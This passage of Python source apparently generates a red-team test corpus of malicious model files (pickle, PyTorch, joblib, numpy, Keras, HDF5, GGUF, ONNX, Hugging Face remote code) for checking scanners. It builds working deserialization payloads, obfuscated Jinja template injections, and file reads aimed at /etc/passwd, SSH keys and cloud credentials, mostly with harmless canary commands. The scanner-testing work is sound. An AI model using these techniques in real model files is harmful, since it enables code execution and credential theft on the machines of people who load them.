    c.add(M, k, "pytorch-zip", "ind_sys_modules.ckpt",
          lambda v: torch_zip_with_pickle(p2(call(call(G("_operator", "methodcaller"), U(v.name), U(v.arg)),
                                                   call(G("_operator", "getitem"), G("sys", "modules"), U(v.mod))))),
          "Lightning-style .ckpt: sys.modules['os'] via operator.getitem, then methodcaller", L_TORCH)
    c.add(M, k, "pickle", "ind_tempfile_os.pkl",
          lambda v: p2(call(call(G("_operator", "methodcaller"), U(v.name), U(v.arg)),
                            twin_mod(v, G("tempfile", "_os")))),
          "module object tempfile._os, methodcaller('system', cmd)", L_PICKLE)

    # ---- 5. dangerous members reached through ML-library namespaces (protocol-4 dotted names)
    k = "trusted-namespace"
    c.add(M, k, "pytorch-zip", "tn_torch_serialization_os.pt",
          lambda v: torch_zip_with_pickle(framed(call(dotted(v, "torch.serialization", "os.system"), U(v.arg)))),
          "torch zip: GLOBAL torch.serialization 'os.system' (dotted name, protocol 4)", L_TORCH)
    c.add(M, k, "joblib", "tn_joblib_numpy_pickle_os.joblib",
          lambda v: framed(call(dotted(v, "joblib.numpy_pickle", "os.system"), U(v.arg))),
          "GLOBAL joblib.numpy_pickle 'os.system' (dotted)", L_JOBLIB)
    c.add(M, k, "pickle", "tn_sklearn_datasets_os.pkl",
          lambda v: framed(call(dotted(v, "sklearn.datasets._base", "os.system"), U(v.arg))),
          "GLOBAL sklearn.datasets._base 'os.system' (dotted)", L_PICKLE)
    c.add(M, k, "pickle", "tn_pandas_io_common_os.pkl",
          lambda v: framed(call(dotted(v, "pandas.io.common", "os.popen"), U(v.arg))),
          "GLOBAL pandas.io.common 'os.popen' (dotted)", L_PANDAS)
    c.add(M, k, "numpy", "tn_numpy_runstring.npy",
          lambda v: npy_bytes(__import__("numpy").array([Reduce(__import__("numpy.testing._private.utils", fromlist=["x"]).runstring, v.code, {}), 1], dtype=object)),
          "real np.save object array: numpy.testing._private.utils.runstring (exec)", L_NPY)
    c.add(M, k, "pytorch-zip", "tn_torch_fx_forward_from_src.pt",
          lambda v: torch_zip_with_pickle(p2(call(G("torch.fx.graph_module", "_forward_from_src"), U(v.code + "\ndef forward(self):\n    return 0\n"), EMPTY_DICT))),
          "torch zip: torch.fx.graph_module._forward_from_src(src) exec()s source", L_TORCH)
    c.add(M, k, "pickle", "tn_scipy_testutils_subprocess.pkl",
          lambda v: framed(call(dotted(v, "scipy._lib._testutils", "subprocess.getoutput"), U(v.arg))),
          "GLOBAL scipy._lib._testutils 'subprocess.getoutput' (dotted)", L_PICKLE)
    c.add(M, k, "pytorch-zip", "tn_rebuild_from_type_v2.pt",
          lambda v: torch_zip_with_pickle(framed(call(G("torch._tensor", "_rebuild_from_type_v2"),
                                                  dotted(v, "torch.utils.data.dataloader", "os.system"),
                                                  G("builtins", "object"), MARK + U(v.arg) + TUPLE, NONE))),
          "allow-listed torch._tensor._rebuild_from_type_v2 calls os.system reached via a torch module path", L_TORCH)

    # ---- 6. uncommon stdlib callables that run code or commands
    k = "uncommon-stdlib-exec"
    c.add(M, k, "pickle", "us_timeit.pkl",
          lambda v: p2(call(G("timeit", "timeit"), U(v.code), U("pass"), G("time", "perf_counter"), I(1))),
          "timeit.timeit(stmt=code, number=1)")
    c.add(M, k, "pickle", "us_cprofile_run.pickle",
          lambda v: p2(call(G("cProfile", "run"), U(v.code))), "cProfile.run(code)")
    c.add(M, k, "pickle", "us_code_interpreter.bin",
          lambda v: p2(call(call(G("_operator", "methodcaller"), U("runsource"), U(v.code)), call(G("code", "InteractiveInterpreter")))),
          "code.InteractiveInterpreter().runsource(code)")
    c.add(M, k, "pickle", "us_mailcap.pkl",
          lambda v: p2(call(G("mailcap", "findmatch"),
                            EMPTY_DICT + U("text/plain") + MARK + EMPTY_DICT + U("view") + U("true") + SETITEM + U("test") + U(v.arg) + SETITEM + b"l" + SETITEM,
                            U("text/plain"))),
          "mailcap.findmatch runs the entry's 'test' shell command")
    c.add(M, k, "pickle", "us_runpy.pkl",
          lambda v: p2(call(G("runpy", "run_path"), U("/tmp/mlsecops-redteam-canary.py"))), "runpy.run_path(file)")
    c.add(M, k, "pickle", "us_pty_spawn.pkl",
          lambda v: p2(call(G("pty", "spawn"), MARK + U("echo") + U("MLSECOPS-REDTEAM-CANARY") + b"l")), "pty.spawn(argv)")
    c.add(M, k, "pickle", "us_spawnv_passfds.pkl",
          lambda v: p2(call(G("multiprocessing.util", "spawnv_passfds"), U("/bin/echo"), MARK + U("echo") + U("CANARY") + b"l", EMPTY_LIST)),
          "multiprocessing.util.spawnv_passfds runs a program")
    c.add(M, k, "joblib", "us_sympy_sympify.joblib",
          lambda v: p2(call(G("sympy", "sympify"), U(v.code))), "sympy.sympify(str) eval()s its input")
    c.add(M, k, "pickle", "us_jinja2_ssti.pkl",
          lambda v: p2(call(call(G("_operator", "methodcaller"), U("render")),
                            call(G("jinja2", "Template"), U("{{ cycler.__init__.__globals__.os.system('echo MLSECOPS-REDTEAM-CANARY') }}")))),
          "jinja2.Template(ssti).render(): unsandboxed template reaches os.system")

    # ---- 7. function / code-object construction
    k = "code-objects"

    def marshal_fn(v: V) -> bytes:
        code = compile(v.code, "<x>", "exec")
        fn = call(G("types", "FunctionType"), call(G("marshal", "loads"), B(marshal.dumps(code))), EMPTY_DICT)
        return p2(fn + EMPTY_TUPLE + REDUCE)

    c.add(M, k, "pickle", "co_marshal_function.pkl", marshal_fn, "types.FunctionType(marshal.loads(code), {}) then called", L_PICKLE)

    def dill_like(v: V, lib: str) -> bytes:
        src = f"def hook():\n    {v.code}\n"
        ns: dict[str, Any] = {"__name__": "__main__"}
        # only the def statement runs: it defines the function, which is never called here
        exec(compile(src, "<hook>", "exec"), ns)  # noqa: S102
        mod = __import__(lib)
        return mod.dumps(Reduce(ns["hook"]))  # REDUCE calls the by-value function on load

    c.add(M, k, "pickle", "co_dill_function.pkl", lambda v: dill_like(v, "dill"),
          "real dill.dumps: function by value (_create_code/_create_function) invoked by REDUCE", L_PICKLE)
    c.add(M, k, "pickle", "co_cloudpickle_function.pkl", lambda v: dill_like(v, "cloudpickle"),
          "real cloudpickle.dumps: function by value invoked by REDUCE", L_PICKLE)

    # ---- 8. nested deserialisers (payload hidden in a byte string)
    k = "nested-deserializer"
    inner = classic
    c.add(M, k, "pickle", "nd_pickle_loads.pkl",
          lambda v: p2(call(G("pickle", "loads"), B(inner(v)))), "pickle.loads(bytes of a malicious pickle)", L_PICKLE)
    c.add(M, k, "pickle", "nd_pickle_loads_zlib.pkl",
          lambda v: p2(call(G("_pickle", "loads"), call(G("zlib", "decompress"), B(zlib.compress(inner(v)))))),
          "_pickle.loads(zlib.decompress(...)): inner payload never appears in clear", L_PICKLE)
    c.add(M, k, "pickle", "nd_pandas_read_pickle.pkl",
          lambda v: p2(call(G("pandas", "read_pickle"), call(G("_io", "BytesIO"), B(inner(v))))),
          "pandas.read_pickle(io.BytesIO(malicious pickle))", L_PICKLE)
    c.add(M, k, "pytorch-zip", "nd_b64_in_torch.pt",
          lambda v: torch_zip_with_pickle(p2(call(G("pickle", "loads"), call(G("base64", "b64decode"), U(base64.b64encode(inner(v)).decode()))))),
          "torch zip: pickle.loads(base64.b64decode(text))", L_TORCH)
    c.add(M, k, "joblib", "nd_joblib_load.joblib",
          lambda v: p2(call(G("joblib", "load"), call(G("_io", "BytesIO"), B(joblib_bytes(sysobj(v), compress=("lzma", 3)))))),
          "joblib.load(io.BytesIO(lzma-compressed joblib))", L_JOBLIB)

    # ---- 9. side effects without code execution: files and network
    k = "file-network-effects"
    c.add(M, k, "pickle", "fx_builtins_open.pkl", lambda v: p2(call(G("builtins", "open"), U(TMPFILE), U("w"))),
          "builtins.open(path, 'w') truncates/creates a file")
    c.add(M, k, "pickle", "fx_logging_filehandler.pkl", lambda v: p2(call(G("logging", "FileHandler"), U(TMPFILE))),
          "logging.FileHandler(path) creates the file")
    c.add(M, k, "pickle", "fx_numpy_save.pkl", lambda v: p2(call(G("numpy", "save"), U(TMPFILE + ".npy"), U(v.arg))),
          "numpy.save(path, data) writes attacker-chosen file")
    c.add(M, k, "pickle", "fx_shutil_rmtree.pkl", lambda v: p2(call(G("shutil", "rmtree"), U("/tmp/mlsecops-redteam-nonexistent"), NEWTRUE)),
          "shutil.rmtree(dir, ignore_errors=True)")
    c.add(M, k, "pickle", "fx_posix_unlink.pkl", lambda v: p2(call(G("posix", "unlink"), U(TMPFILE))), "posix.unlink(path)")
    c.add(M, k, "pickle", "fx_socket.pkl",
          lambda v: p2(call(G("socket", "create_connection"), U("127.0.0.1") + I(9) + TUPLE2)), "socket.create_connection(('127.0.0.1', 9))")
    c.add(M, k, "pickle", "fx_urlopen.pkl", lambda v: p2(call(G("urllib.request", "urlopen"), U("http://127.0.0.1:9/canary"))),
          "urllib.request.urlopen(url)")
    c.add(M, k, "pickle", "fx_webbrowser.pkl", lambda v: p2(call(G("webbrowser", "open"), U("http://127.0.0.1:9/canary"))),
          "webbrowser.open(url)")
    c.add(M, k, "pickle", "fx_sqlite_connect.pkl", lambda v: p2(call(G("sqlite3", "connect"), U(TMPFILE + ".db"))),
          "sqlite3.connect(path) creates a file")

    # ---- 10. Python 2 names mapped by fix_imports (protocol <= 2)
    k = "py2-names"
    c.add(M, k, "pickle", "py2_builtin_eval.pkl",
          lambda v: b"c__builtin__\neval\n(" + S0(v.code) + b"tR." if not v.twin else b"c__builtin__\nprint\n(" + S0(v.arg) + b"tR.",
          "protocol 0: __builtin__.eval -> builtins.eval", L_PICKLE)
    c.add(M, k, "pickle", "py2_commands_getoutput.pkl",
          lambda v: b"ccommands\ngetoutput\n(" + S0(v.arg) + b"tR.", "protocol 0: commands.getoutput -> subprocess.getoutput")
    c.add(M, k, "pickle", "py2_cpickle_loads.pkl",
          lambda v: PROTO(2) + call(G("cPickle", "loads"), B(classic(v))) + STOP, "cPickle.loads (-> pickle.loads) of a nested payload", L_PICKLE)
    c.add(M, k, "pickle", "py2_urllib2.pkl",
          lambda v: PROTO(1) + call(G("urllib2", "urlopen"), U("http://127.0.0.1:9/canary")) + STOP, "urllib2.urlopen -> urllib.request.urlopen")
    c.add(M, k, "pickle", "py2_builtin_getattr_import.pkl",
          lambda v: PROTO(2) + call(call(G("__builtin__", "getattr"), call(G("__builtin__", "__import__"), U(v.mod)), U(v.name)), U(v.arg)) + STOP,
          "__builtin__.getattr(__builtin__.__import__('os'), 'system')", L_PICKLE)

    # ---- 11. legacy torch streams and broken pickles (nullifAI-style)
    k = "legacy-torch-stream"
    import torch

    c.add(M, k, "pytorch-legacy", "lt_real_legacy_save.pt",
          lambda v: real_torch_save({"w": torch.ones(2), "hook": sysobj(v)}, legacy=True),
          "real torch.save(_use_new_zipfile_serialization=False)", L_TORCH)
    c.add(M, k, "pytorch-legacy", "lt_object_proto0.pth", lambda v: legacy_torch(v, "object-proto0"),
          "legacy stream, object pickle written in protocol 0 (no \\x80 header)", L_TORCH)
    c.add(M, k, "pytorch-legacy", "lt_sysinfo_payload.bin", lambda v: legacy_torch(v, "sysinfo"),
          "legacy stream, payload in the sys_info pickle (3rd of 5)", L_TORCH)
    c.add(M, k, "pytorch-legacy", "lt_magic_payload.pt", lambda v: legacy_torch(v, "magic"),
          "legacy stream, payload in the magic-number pickle (1st), loader unpickles before comparing", L_TORCH)
    c.add(M, k, "pytorch-legacy", "lt_storage_keys_payload.pt", lambda v: legacy_torch(v, "keys"),
          "legacy stream, payload in the storage-keys pickle (5th)", L_TORCH)
    c.add(M, k, "pytorch-legacy-tar", "lt_tar_format.pt", legacy_torch_tar,
          "pre-1.6 tar checkpoint: tar members sys_info/storages/tensors/pickle", L_TORCH)
    c.add(M, k, "pickle", "lt_broken_after_payload.pkl",
          lambda v: PROTO(2) + call(G(v.mod, v.name), U(v.arg)) + b"\xff\xfe garbage",
          "nullifAI-style: payload then an invalid opcode, no STOP")
    c.add(M, k, "pickle", "lt_next_buffer_after_payload.pkl",
          lambda v: PROTO(5) + call(G(v.mod, v.name), U(v.arg)) + b"\x97" + STOP,
          "payload then NEXT_BUFFER (out-of-band buffer missing) raises after the call")
    c.add(M, k, "pytorch-zip", "lt_zip_broken_after_payload.pt",
          lambda v: torch_zip_with_pickle(PROTO(2) + call(G(v.mod, v.name), U(v.arg)) + b"\xff"),
          "torch zip whose data.pkl breaks (invalid opcode) right after the payload", L_TORCH)

    # ---- 12. numpy object arrays
    k = "numpy-object-array"
    import numpy as np

    c.add(M, k, "numpy", "np_real_object.npy", lambda v: npy_bytes(obj_array(v)), "real np.save of an object array", L_NPY)
    c.add(M, k, "numpy", "np_descr_object_word.npy", lambda v: npy_with_descr(v, "'object'"),
          "header descr 'object' (np.dtype accepts it)", L_NPY)
    c.add(M, k, "numpy", "np_descr_object_underscore_v2.npy", lambda v: npy_with_descr(v, "'object_'", version=2),
          "format 2.0 header, descr 'object_'", L_NPY)
    c.add(M, k, "numpy", "np_struct_object_field.npy",
          lambda v: npy_bytes(np.array([(1, sysobj(v))], dtype=[("a", "<i4"), ("b", "O")])),
          "real np.save of a structured array with an object field", L_NPY)
    c.add(M, k, "numpy", "np_subarray_object.npy",
          lambda v: npy_bytes(np.array([((sysobj(v), 2),)], dtype=[("x", "O", (2,))])),
          "real np.save, structured dtype with an object sub-array field", L_NPY)
    c.add(M, k, "numpy", "np_nested_struct_object.npy",
          lambda v: npy_bytes(np.array([((sysobj(v), 1.5),)], dtype=[("outer", [("inner", "O"), ("x", "<f8")])])),
          "real np.save, object field nested two levels deep in a structured dtype", L_NPY)
    c.add(M, k, "numpy", "np_descr_v3_utf8.npy", lambda v: npy_with_descr(v, "'|O'", version=3),
          "format 3.0 (utf-8) header", L_NPY)

    def npz_members(v: V, members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
        return zip_bytes(members, method)

    c.add(M, k, "npz", "np_npz_compressed_real.npz",
          lambda v: savez_bytes(w=np.arange(3), x=obj_array(v)),
          "real np.savez_compressed with an object array member", L_NPZ)
    c.add(M, k, "npz", "np_npz_member_no_suffix.npz",
          lambda v: npz_members(v, [("w.npy", npy_bytes(np.arange(3))), ("notes.txt", npy_bytes(obj_array(v)))]),
          "npz member named .txt holds an object .npy; np.load sniffs magic, not name", L_NPZ)
    c.add(M, k, "npz", "np_npz_lzma_member.npz",
          lambda v: npz_members(v, [("w.npy", npy_bytes(np.arange(3))), ("x.npy", npy_bytes(obj_array(v)))], zipfile.ZIP_LZMA),
          "npz whose members are LZMA-compressed (zipfile reads them)", L_NPZ)

    def npz_dup(v: V) -> bytes:
        import warnings

        buf = io.BytesIO()
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            with zipfile.ZipFile(buf, "w") as z:
                z.writestr("x.npy", npy_bytes(np.arange(3)))
                z.writestr("x.npy", npy_bytes(obj_array(v)))
        return buf.getvalue()

    c.add(M, k, "npz", "np_npz_duplicate_member.npz", npz_dup,
          "two members named x.npy: first clean, the last (the one np.load reads) an object array", L_NPZ)

    # ---- 13. joblib inline arrays and compressors
    k = "joblib-layout"
    arrs = {
        "f8": lambda: np.linspace(0, 1, 64),
        "U": lambda: np.array(["alpha", "béta", "gamma-longer"]),
        "fake_stop": lambda: np.frombuffer(b"\x80\x04\x95\x00N.." * 8, dtype=np.uint8).copy(),
    }
    c.add(M, k, "joblib", "jl_after_float_array.joblib", lambda v: joblib_bytes([arrs["f8"](), sysobj(v)]),
          "real joblib.dump: payload after an inline float64 array", L_JOBLIB)
    c.add(M, k, "joblib", "jl_after_unicode_array.joblib", lambda v: joblib_bytes([arrs["U"](), sysobj(v)]),
          "real joblib.dump: payload after an inline <U12 array", L_JOBLIB)
    c.add(M, k, "joblib", "jl_after_fake_stop_bytes.joblib", lambda v: joblib_bytes([arrs["fake_stop"](), sysobj(v)]),
          "real joblib.dump: inline uint8 array whose bytes look like pickle + STOP", L_JOBLIB)
    for comp, ext in [("bz2", "joblib"), ("lzma", "joblib"), ("xz", "pkl"), ("gzip", "joblib"), ("zlib", "joblib")]:
        c.add(M, k, f"joblib-{comp}", f"jl_{comp}_unicode.{ext}",
              partial(lambda cc, v: joblib_bytes([arrs["U"](), sysobj(v)], compress=(cc, 3)), comp),
              f"real joblib.dump compress=('{comp}', 3), <U array then payload", L_JOBLIB)

    # ---- 14. containers
    k = "containers"
    payload_pkl = classic

    def tar_of(v: V, mode: str, name: str = "model/model.pkl") -> bytes:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode=mode) as t:
            d = payload_pkl(v)
            ti = tarfile.TarInfo(name)
            ti.size = len(d)
            t.addfile(ti, io.BytesIO(d))
        return buf.getvalue()

    c.add(M, k, "zip", "ct_zip_stored.zip", lambda v: zip_bytes([("model.pkl", payload_pkl(v))]), "zip, stored .pkl member")
    c.add(M, k, "zip", "ct_zip_bzip2.zip", lambda v: zip_bytes([("model.pkl", payload_pkl(v))], zipfile.ZIP_BZIP2),
          "zip, bzip2-compressed .pkl member")
    c.add(M, k, "zip", "ct_zip_lzma.zip", lambda v: zip_bytes([("model.pkl", payload_pkl(v))], zipfile.ZIP_LZMA),
          "zip, lzma-compressed .pkl member")
    c.add(M, k, "zip", "ct_zip_in_zip.zip",
          lambda v: zip_bytes([("inner.zip", zip_bytes([("weights.pkl", payload_pkl(v))], zipfile.ZIP_DEFLATED))], zipfile.ZIP_DEFLATED),
          "zip inside a zip, inner deflated")
    c.add(M, k, "zip", "ct_zip_readme_member.zip", lambda v: zip_bytes([("README.md", payload_pkl(v))], zipfile.ZIP_DEFLATED),
          "zip member named README.md that is a pickle")
    c.add(M, k, "tar", "ct_plain.tar", lambda v: tar_of(v, "w"), "tar holding model/model.pkl")
    c.add(M, k, "tar.gz", "ct_targz.tar.gz", lambda v: tar_of(v, "w:gz"), "tar.gz holding model/model.pkl")
    c.add(M, k, "tar.xz", "ct_tarxz.tar.xz", lambda v: tar_of(v, "w:xz"), "tar.xz holding model/model.pkl")
    c.add(M, k, "tgz", "ct_tgz_pytorch_bin.tgz", lambda v: tar_of(v, "w:gz", "pytorch_model.bin"), "tgz holding pytorch_model.bin (pickle)")
    c.add(M, k, "gzip", "ct_model.gz", lambda v: gzip.compress(payload_pkl(v), mtime=0),
          "gzip without .pkl in the name (pandas.read_pickle infers from .gz)", L_PANDAS)
    c.add(M, k, "tar.bz2", "ct_pkl.tar.bz2", lambda v: tar_of(v, "w:bz2", "model.pkl"),
          "tar.bz2 with one pickle (pandas.read_pickle reads single-member tars)", L_PANDAS)
    c.add(M, k, "gzip", "ct_pkl.pkl.gz", lambda v: gzip.compress(payload_pkl(v), mtime=0),
          "gzip single file, pandas.read_pickle infers compression", L_PANDAS)
    c.add(M, k, "bz2", "ct_pkl.pkl.bz2", lambda v: bz2.compress(payload_pkl(v)), "bz2 single file (pandas.read_pickle)", L_PANDAS)
    c.add(M, k, "xz", "ct_pkl.pkl.xz", lambda v: lzma.compress(payload_pkl(v)), "xz single file (pandas.read_pickle)", L_PANDAS)

    def zstd(v: V, p: Path) -> None:
        import pandas as pd

        pd.to_pickle(sysobj(v), p)  # real pandas saver, zstd inferred from the name

    c.add(M, k, "zstd", "ct_pkl.pkl.zst", zstd, "real pandas.to_pickle, zstd inferred from .zst", L_PANDAS, writes=True)

    # ---- 15. format confusion: names and magic bytes that mislead
    k = "format-confusion"
    for name, desc in [
        ("fc_pickle_as.safetensors", "pickle named .safetensors"),
        ("fc_finalized_model.sav", "pickle named .sav (common sklearn tutorial name)"),
        ("fc_model.p", "pickle named .p"),
        ("fc_classifier.model", "pickle named .model"),
        ("fc_weights.dat", "pickle named .dat"),
        ("fc_pytorch_model", "pickle without an extension"),
        ("fc_MODEL.PKL", "upper-case .PKL"),
        ("fc_config.json", "pickle named config.json"),
    ]:
        c.add(M, k, "pickle", name, classic, desc, L_PICKLE)

    def polyglot(v: V) -> bytes:
        return classic(v) + zip_bytes([("w.npy", npy_bytes(np.arange(4)))])

    c.add(M, k, "pickle+zip", "fc_polyglot_pickle_zip.npz", polyglot,
          "pickle followed by a valid npz zip: zip tools see the zip, np.load(allow_pickle) unpickles", L_NPY)
    c.add(M, k, "pickle+zip", "fc_polyglot_pickle_zip.pt", polyglot,
          "same polyglot as .pt: torch.load falls to the legacy path and unpickles the head", L_TORCH)
    c.add(M, k, "pickle", "fc_none_pop_prefix.pkl", lambda v: b"N0]0" + call(G(v.mod, v.name), U0(v.arg)) + STOP,
          "protocol-0 pickle starting with NONE POP EMPTY_LIST POP", L_PICKLE)

    # ---- 16. Keras configs
    k = "keras-config"
    c.add(M, k, "keras", "kc_lambda.keras", lambda v: keras_lambda(v), "real .keras with Lambda code swapped for canary bytecode", L_KERAS)
    c.add(M, k, "keras", "kc_lambda_unicode_escape.keras", lambda v: keras_lambda(v, "escape"),
          "config.json spells \"\\u004cambda\" (JSON escape)", L_KERAS)
    c.add(M, k, "keras", "kc_lambda_bom.keras", lambda v: keras_lambda(v, "bom"), "config.json with UTF-8 BOM", L_KERAS)
    c.add(M, k, "keras", "kc_lambda_duplicate_key.keras", lambda v: keras_lambda(v, "dupkey"),
          "class_name given twice (Dense, then Lambda; json keeps the last)", L_KERAS)
    c.add(M, k, "keras", "kc_duplicate_config_member.keras", lambda v: keras_lambda(v, "dupmember"),
          "two config.json members: first clean, last (read by keras) has the Lambda", L_KERAS)
    c.add(M, k, "keras", "kc_lambda_nested_submodel.keras", lambda v: keras_lambda(v, "nested"),
          "Lambda inside a nested Sequential sub-model", L_KERAS)
    c.add(M, k, "keras", "kc_module_os_system.keras", lambda v: keras_custom_module(v, "module-os"),
          "config object {module: os, class_name: system} (CVE-2025-1550 pattern)")
    c.add(M, k, "keras", "kc_enable_unsafe_then_lambda.keras", lambda v: keras_custom_module(v, "unsafe-then-lambda"),
          "keras.config.enable_unsafe_deserialization as a layer, then a Lambda")
    c.add(M, k, "keras", "kc_tfsmlayer.keras", lambda v: keras_custom_module(v, "tfsmlayer"),
          "TFSMLayer loading an attacker-controlled SavedModel path")
    c.add(M, k, "keras", "kc_get_file.keras", lambda v: keras_custom_module(v, "get-file"),
          "keras.utils.get_file as an initializer (download/write, CVE-2025-8747 pattern)")
    c.add(M, k, "h5", "kc_lambda.h5", lambda v, p: h5_lambda(v, p), "legacy .h5, Lambda with canary bytecode", L_KERAS, writes=True)
    c.add(M, k, "h5", "kc_lambda_userblock.h5", lambda v, p: h5_lambda(v, p, userblock=True),
          "legacy .h5 with a 512-byte user block before the HDF5 signature", L_KERAS, writes=True)
    c.add(M, k, "h5", "kc_lambda_escape.h5", lambda v, p: h5_lambda(v, p, nested_escape=True),
          "legacy .h5, model_config spells \\u004cambda", L_KERAS, writes=True)

    # ---- 16b. HDF5 external storage / external links: loading reads another file into the weights
    k = "hdf5-external"
    c.add(M, k, "h5", "hx_kernel_external_passwd.h5", lambda v, p: h5_external(v, p, "h5"),
          "real Keras .h5 whose Dense kernel is HDF5 external storage on /etc/passwd: file read into the "
          "weights (CVE-2026-1669; Keras 3.15 refuses, h5py/tf-keras/older Keras read it)", L_KERAS_EXT, writes=True)
    c.add(M, k, "keras", "hx_weights_external.keras", lambda v, p: h5_external(v, p, "keras"),
          "real .keras whose model.weights.h5 stores the kernel externally in /etc/passwd", L_KERAS_EXT, writes=True)
    c.add(M, k, "h5", "hx_external.weights.h5", lambda v, p: h5_external(v, p, "weights"),
          "real .weights.h5 with a kernel in external storage (~/.aws/credentials)", writes=True)
    c.add(M, k, "h5", "hx_external_link.h5", lambda v, p: h5_external(v, p, "link"),
          "real Keras .h5 whose model_weights group is an HDF5 ExternalLink to another file "
          "(legacy load_weights dispatcher, keras PR 22900)", writes=True)

    # ---- 17. GGUF
    k = "gguf-template"
    base_kv: list[tuple[str, int, Any]] = [("general.architecture", 8, "llama"), ("general.name", 8, "redteam-tiny"),
                                           ("general.alignment", 4, 32)]
    ssti = "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').system('echo MLSECOPS-REDTEAM-CANARY') }}{% endif %}{% endfor %}"
    ssti_obf = ("{% set c = ()|attr('_'*2~'class'~'_'*2) %}{% set b = c|attr('_'*2~'base'~'_'*2) %}"
                "{% for x in (b|attr('_'*2~'subclasses'~'_'*2))() %}{% if 'Popen' == x.__name__ %}"
                "{{ x(['echo','MLSECOPS-REDTEAM-CANARY']) }}{% endif %}{% endfor %}")
    c.add(M, k, "gguf", "gg_chat_template_ssti.gguf", lambda v: gguf_bytes(base_kv + [("tokenizer.chat_template", 8, ssti)]),
          "tokenizer.chat_template with Jinja SSTI (llama-cpp-python CVE-2024-34359)")
    c.add(M, k, "gguf", "gg_chat_template_ssti_obfuscated.gguf",
          lambda v: gguf_bytes(base_kv + [("tokenizer.chat_template", 8, ssti_obf)]),
          "SSTI with attr() filters and ~ concatenation, no literal __class__")
    hexed = ("{% set p = ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f') %}"
             "{% for x in (p|attr('\\x5f\\x5fsubclasses\\x5f\\x5f'))() if x.__name__ == 'Po'~'pen' %}"
             "{{ x(['echo', 'MLSECOPS-REDTEAM-CANARY']) }}{% endfor %}")
    fmt = ("{% set u = '%c%c'|format(95, 95) %}{% set g = [u, 'glob', 'als', u]|join %}"
           "{% set m = (joiner|attr([u, 'init', u]|join)|attr(g))['o' ~ 's'] %}"
           "{{ (m|attr('po' ~ 'pen'))('echo MLSECOPS-REDTEAM-CANARY').read() }}")
    c.add(M, k, "gguf", "gg_chat_template_hex_escapes.gguf",
          lambda v: gguf_bytes(base_kv + [("tokenizer.chat_template", 8, hexed)]),
          "SSTI with \\x5f escapes inside Jinja string literals, class name built with ~")
    c.add(M, k, "gguf", "gg_chat_template_format_join.gguf",
          lambda v: gguf_bytes(base_kv + [("tokenizer.chat_template", 8, fmt)]),
          "SSTI: dunder names built with '%c'|format(95) and |join, reached from joiner")
    c.add(M, k, "gguf", "gg_string_length_overflow.gguf",
          lambda v: gguf_bytes(base_kv)[:24] + struct.pack("<Q", 0xFFFFFFFFFFFFFFF0) + b"general.architecture",
          "first metadata key declares a 2^64-16 byte length (length-overflow CVE class)")
    c.add(M, k, "gguf", "gg_tensor_count_overflow.gguf", lambda v: gguf_bytes(base_kv, n_tensors=0x7FFFFFFFFFFFFFFF),
          "tensor_count 2^63-1: parser allocation/overflow (llama.cpp GGUF CVEs)")

    # ---- 18. ONNX external data
    k = "onnx-external-data"
    c.add(M, k, "onnx", "ox_external_traversal.onnx", lambda v: onnx_model("../../../../../../etc/passwd"),
          "initializer external_data location ../../etc/passwd (CVE-2024-27318 pattern)")
    c.add(M, k, "onnx", "ox_external_absolute.onnx", lambda v: onnx_model("/root/.ssh/id_rsa"),
          "initializer external_data absolute location")

    c.add(M, k, "onnx", "ox_subgraph_external.onnx", lambda v: onnx_subgraph("../../../../../../etc/passwd"),
          "external-data traversal on an initializer inside an If node's then_branch subgraph")
    c.add(M, k, "onnx", "ox_constant_attr_external.onnx", lambda v: onnx_constant_attr("/etc/shadow"),
          "external data on a Constant node's tensor attribute (not a graph initializer)")

    # ---- 18b. Hugging Face remote code: config auto_map names Python shipped beside the weights
    k = "hf-remote-code"
    c.add(M, k, "json", "hf_remote/config.json",
          lambda v: json.dumps({"architectures": ["RedteamModel"], "model_type": "redteam",
                                "auto_map": {"AutoConfig": "configuration_redteam.RedteamConfig",
                                             "AutoModel": "modeling_redteam.RedteamModel"}}).encode(),
          "config.json auto_map: AutoModel.from_pretrained(trust_remote_code=True) imports repo code")
    c.add(M, k, "python", "hf_remote/modeling_redteam.py",
          lambda v: f"import os\n\n{v.code}\n\n\nclass RedteamModel:\n    pass\n".encode(),
          "modeling_*.py beside the weights runs os.system at import")
    c.add(M, k, "python", "hf_remote/configuration_redteam.py",
          lambda v: b"import subprocess\n\nsubprocess.run(['echo', 'MLSECOPS-REDTEAM-CANARY'])\n\n\nclass RedteamConfig:\n    pass\n",
          "configuration_*.py runs a subprocess at import")

    # ---- 19. hostile safetensors headers (must be a finding, never a crash)
    k = "safetensors-hostile"
    c.add(M, k, "safetensors", "st_header_len_overflow.safetensors",
          lambda v: safetensors_raw(b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', b"\0" * 4, declared=2**63),
          "declared header length 2^63")
    c.add(M, k, "safetensors", "st_deep_nesting.safetensors",
          lambda v: safetensors_raw(b'{"__metadata__":' + b"[" * 100000 + b"]" * 100000 + b"}"),
          "100k-deep JSON nesting in the header (recursion bomb)")
    c.add(M, k, "safetensors", "st_offsets_past_end.safetensors",
          lambda v: safetensors_raw(b'{"w":{"dtype":"F32","shape":[1000000000],"data_offsets":[0,4000000000]}}', b"\0" * 8),
          "tensor data_offsets far past end of file")


# =========================================================================== benign set
def build_benign(c: Corpus) -> None:
    import joblib
    import numpy as np
    import pandas as pd
    import torch
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer, make_column_selector
    from sklearn.decomposition import PCA
    from sklearn.ensemble import (
        GradientBoostingClassifier,
        HistGradientBoostingClassifier,
        RandomForestClassifier,
    )
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import (
        FunctionTransformer,
        LabelEncoder,
        OneHotEncoder,
        StandardScaler,
    )
    from sklearn.svm import SVC

    B_ = "benign"
    rng = np.random.default_rng(0)
    X = rng.normal(size=(60, 4))
    y = (X[:, 0] > 0).astype(int)
    texts = ["refund my order", "password reset please", "the app crashes", "invoice is wrong"] * 5
    ty = [0, 1, 2, 0] * 5
    df = pd.DataFrame({"num": rng.normal(size=20), "cat": ["a", "b", "c", "a"] * 5, "label": ty})

